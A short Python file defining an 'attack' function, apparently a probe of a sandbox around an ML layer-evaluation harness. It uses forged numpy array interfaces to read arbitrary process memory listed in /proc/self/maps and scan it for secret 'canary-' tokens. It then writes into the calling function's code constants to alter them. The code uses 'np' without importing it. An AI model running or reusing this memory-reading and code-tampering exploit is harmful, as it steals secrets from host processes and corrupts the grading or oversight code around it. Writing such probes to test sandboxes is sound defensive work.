import re

from numpy.lib.stride_tricks import as_strided


def attack(layer, x):
    print("TRIED to read and write memory by strides")
    home = np.zeros(8, np.uint8)
    base = home.__array_interface__["data"][0]

    def at(address, count):
        return as_strided(home[:1], (count,), (1,)) if address == base else np.asarray(Anywhere(address, count))

    class Anywhere:
        def __init__(self, address, count):
            self.__array_interface__ = {"data": (address, False), "shape": (count,), "typestr": "|u1", "version": 3}

    seen = 0
    with open("/proc/self/maps") as maps:
        for line in maps:
            span, modes, rest = line.split(None, 2)
            first, last = (int(part, 16) for part in span.split("-"))
            if modes.startswith("rw") and "[v" not in rest and last - first < 2**26:
                data = at(first, last - first).tobytes()
                seen += len(data)
                for found in set(re.findall(rb"canary-[0-9a-f]{24}", data)):
                    print("GOT", found.decode())
    print("bytes", seen > 2**20)
    # the code of the function that called: its constants become others
    import sys

    constants = sys._getframe(1).f_code.co_consts
    at(id(constants) + tuple.__basicsize__, 8)[:] = np.frombuffer(id(0.0).to_bytes(8, "little"), np.uint8)
    return np.zeros_like(x)
